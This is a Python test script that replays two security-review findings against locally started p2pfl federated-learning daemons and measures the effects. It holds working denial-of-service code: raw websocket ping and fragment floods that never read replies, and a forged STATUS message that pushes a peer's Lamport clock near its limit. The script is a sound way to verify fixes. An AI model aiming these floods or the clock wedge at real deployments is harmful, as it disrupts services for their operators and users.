"""Two findings of the security review, replayed against real daemons, with figures.

    python scripts/review_attacks.py [--peers 3] [--window 5] [--flood 20]

Starts ``--peers`` real ``p2pfl run`` processes on 127.0.0.1 (digits, full graph, a small
MLP, rounds without end), lets them settle, then:

1. floods (finding 2 and the second review): websockets to alice that send pings, then
   first fragments of messages, as fast as they can and never read, reconnecting whenever
   cut. Prints alice's resident memory and the network's round rate before and during
   each flood, and how long alice kept a connection.
2. clock wedge (finding 1): plays bob for one connection to alice (bob's real key: any
   roster peer can) and sends one STATUS with lamport 2**53 - 1 - 40. Prints, for the
   following window, the share of rounds every node aggregated with all its neighbours and
   the count of ``above the limit`` refusals; then restarts alice from her state directory
   and prints the same again.

To measure an earlier version, run this script from its checkout with
``PYTHONPATH=<that checkout>`` (``python -m`` puts the working folder first on the path):
the peers are started with the same interpreter, environment and folder.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import signal
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import yaml
from websockets.asyncio.client import connect

from p2pfl.config import load_config
from p2pfl.config.local import build_local_config
from p2pfl.learning.prepare import load_digits_arrays, write_partitions
from p2pfl.proto.channel import Channel
from p2pfl.proto.handshake import IKHandshake
from p2pfl.proto.keys import generate_key_file, load_private_key
from p2pfl.proto.wire import PROLOGUE, decode_reply, encode_hello, encode_status

HOSTILE_LAMPORT = 2**53 - 1 - 40
_MASK = b"\x01\x02\x03\x04"
#: What each flood sends, masked as a client must: pings with the largest control payload
#: (finding 2), and first fragments of empty messages (six bytes each, which websockets
#: parses one by one in Python: the second review's tiny-frame flood).
FLOODS = {
    "ping": bytes([0x89, 0x80 | 125]) + _MASK + bytes(125),
    "fragment": bytes([0x02, 0x80]) + _MASK,
}


class Peer:
    """One ``p2pfl run`` process and an incremental reader of its event log."""

    def __init__(self, root: Path, config: Path, peer_id: str) -> None:
        self.root, self.config, self.id = root, config, peer_id
        self.state = root / "state" / peer_id
        self.proc: subprocess.Popen[bytes] | None = None
        self.events: list[dict[str, Any]] = []
        self._offset = 0

    def start(self) -> None:
        env = dict(os.environ, OPENBLAS_NUM_THREADS="1", OMP_NUM_THREADS="1")
        command = [sys.executable, "-m", "p2pfl", "run", str(self.config), "--id", self.id]
        command += ["--key", str(self.root / f"{self.id}.key")]
        command += ["--data", str(self.root / "data" / f"{self.id}.npz")]
        command += ["--state-dir", str(self.state)]
        out = open(self.root / f"{self.id}.out", "ab")  # noqa: SIM115 (the child owns it)
        self.proc = subprocess.Popen(command, env=env, stdout=out, stderr=subprocess.STDOUT)

    def stop(self) -> None:
        if self.proc is not None and self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(30)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()

    def read(self) -> list[dict[str, Any]]:
        path = self.state / "events.jsonl"
        if path.exists():
            with open(path, "rb") as f:
                f.seek(self._offset)
                data = f.read()
            end = data.rfind(b"\n") + 1
            self._offset += end
            for line in data[:end].splitlines():
                with contextlib.suppress(ValueError):
                    self.events.append(json.loads(line))
        return self.events

    def rss_mb(self) -> float:
        assert self.proc is not None
        for line in Path(f"/proc/{self.proc.pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
        return float("nan")


def free_ports(n: int) -> list[int]:
    socks = [socket.socket() for _ in range(n)]
    for s in socks:
        s.bind(("127.0.0.1", 0))
    ports = [s.getsockname()[1] for s in socks]
    for s in socks:
        s.close()
    return ports


def make_network(root: Path, n: int) -> tuple[Path, list[str]]:
    names = ["alice", "bob", "carol", "dave", "erin", "frank"][:n]
    public = {p: generate_key_file(root / f"{p}.key") for p in names}
    x, y = load_digits_arrays()
    write_partitions(x, y, n, root / "data", seed=7, names=names)
    data = build_local_config(
        peers=names,
        public_keys=public,
        host="127.0.0.1",
        ports=dict(zip(names, free_ports(n), strict=True)),
        network="review",
        seed=7,
        rounds=10_000_000,
        topology={"kind": "full"},
        model={"kind": "mlp", "hidden": [32]},
        inputs=64,
        classes=10,
        learning_rate=0.3,
        batch_size=32,
        round_timeout=10.0,
    )
    data["net"] = {"down_grace": 1.0}
    path = root / "peers.yaml"
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    return path, names


def window(peers: list[Peer], since: float) -> dict[str, float]:
    """Round rate, full rounds and refusals over every peer's events after ``since``."""
    aggregates, refused, ends = 0, 0, 0
    full = 0
    for peer in peers:
        for e in peer.read():
            if e["ts"] < since:
                continue
            if e["type"] == "aggregate":
                aggregates += 1
                full += not e.get("missing")
            elif e["type"] == "round_end":
                ends += 1
            elif "above the limit" in str(e.get("reason", "")):
                refused += 1
    span = max(time.time() - since, 1e-9)
    return {
        "rounds_per_s": ends / len(peers) / span,
        "full_share": full / aggregates if aggregates else 0.0,
        "refused": refused,
    }


async def settle(peers: list[Peer], rounds: int = 20, timeout: float = 120) -> None:
    deadline = time.monotonic() + timeout
    while True:
        done = [sum(e["type"] == "round_end" for e in p.read()) for p in peers]
        if min(done) >= rounds:
            return
        if time.monotonic() > deadline:
            raise SystemExit(f"the network did not reach round {rounds}: {done}")
        await asyncio.sleep(0.2)


async def flood_once(
    port: int, until: float, alice: Peer, peak: list[float], frame: bytes
) -> float:
    """One connection that pings as fast as it can and never reads, until alice cuts it or
    ``until``; returns how long it lived. ``peak`` keeps alice's highest RSS seen."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(
        f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\n"
        "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        "Sec-WebSocket-Version: 13\r\n\r\n".encode()
    )
    await reader.readuntil(b"\r\n\r\n")
    started = time.monotonic()
    batch = frame * (65536 // len(frame))
    with contextlib.suppress(OSError):
        while time.monotonic() < until and not reader.at_eof():
            writer.write(batch)
            with contextlib.suppress(TimeoutError):  # alice not reading: still alive
                await asyncio.wait_for(writer.drain(), 0.2)
            with contextlib.suppress(TimeoutError):
                # the pongs and the upgrade's tail go unread; this only notices her FIN
                await asyncio.wait_for(reader.read(0), 0.001)
            peak[0] = max(peak[0], alice.rss_mb())
    writer.transport.abort()
    return time.monotonic() - started


async def flood(port: int, seconds: float, alice: Peer, frame: bytes) -> tuple[int, float, float]:
    """Flood for ``seconds``, reconnecting whenever alice cuts the connection. Returns
    (connections, the longest one's life, alice's peak RSS in MB)."""
    until = time.monotonic() + seconds
    peak = [alice.rss_mb()]
    lives = []
    while time.monotonic() < until:
        try:
            lives.append(await flood_once(port, until, alice, peak, frame))
        except (OSError, asyncio.IncompleteReadError):
            await asyncio.sleep(0.01)
    return len(lives), max(lives, default=0.0), peak[0]


async def status_as(config_path: Path, root: Path, attacker: str, victim: str) -> None:
    config = load_config(config_path)
    async with connect(config.peers[victim].address, proxy=None, compression=None) as ws:
        hs = IKHandshake(
            initiator=True,
            static=load_private_key(root / f"{attacker}.key"),
            prologue=PROLOGUE,
            remote_static=config.peers[victim].public_key,
        )
        await ws.send(hs.write_message(encode_hello(config.digest, attacker)))
        decode_reply(hs.read_message(await ws.recv(decode=False)))
        channel = Channel(hs.session_keys(), max_plaintext=1 << 16)
        await ws.send(channel.seal(encode_status(1, 0)))
        await ws.send(channel.seal(encode_status(HOSTILE_LAMPORT, 0)))
        with contextlib.suppress(Exception):
            await asyncio.wait_for(ws.recv(), 1.0)


def show(label: str, figures: dict[str, float]) -> None:
    print(
        f"{label:<34} {figures['rounds_per_s']:8.1f} rounds/s   "
        f"full rounds {100 * figures['full_share']:5.1f}%   "
        f"'above the limit' refusals {int(figures['refused'])}",
        flush=True,
    )


async def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--peers", type=int, default=3)
    parser.add_argument("--window", type=float, default=5.0, help="seconds per measurement")
    parser.add_argument("--flood", type=float, default=20.0, help="seconds of ping flood")
    parser.add_argument("--keep", type=Path, help="work in this new folder and keep it")
    args = parser.parse_args()
    with contextlib.ExitStack() as stack:
        if args.keep is None:
            root = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="p2pfl-review-")))
        else:
            root = args.keep
            root.mkdir(parents=True)
        config, names = make_network(root, args.peers)
        peers = [Peer(root, config, name) for name in names]
        for peer in peers:
            peer.start()
        alice = peers[0]
        try:
            await settle(peers)
            since = time.time()
            await asyncio.sleep(args.window)
            show("before any attack", window(peers, since))
            rss_before = alice.rss_mb()

            port = load_config(config).peers["alice"].port
            for kind, frame in FLOODS.items():
                print(f"\n1. {kind} flood on alice for up to {args.flood:.0f} s", flush=True)
                since = time.time()
                connections, longest, peak = await flood(port, args.flood, alice, frame)
                show("  during the flood", window(peers, since))
                print(
                    f"  {connections} flooding connections, the longest kept {longest:.2f} s; "
                    f"alice's RSS {rss_before:.0f} MB before, {peak:.0f} MB at the peak",
                    flush=True,
                )

            print("\n2. one STATUS with lamport 2**53-1-40, as bob, to alice", flush=True)
            await status_as(config, root, "bob", "alice")
            since = time.time()
            await asyncio.sleep(args.window)
            show("  the next window", window(peers, since))
            alice.stop()
            alice.start()
            await asyncio.sleep(1.0)
            since = time.time()
            await asyncio.sleep(args.window)
            show("  after restarting alice", window(peers, since))
            top = max(e["lamport"] for p in peers for e in p.read())
            print(f"  highest lamport logged: {top} (limit {2**53 - 1})", flush=True)
        finally:
            for peer in peers:
                peer.stop()


if __name__ == "__main__":
    asyncio.run(main())
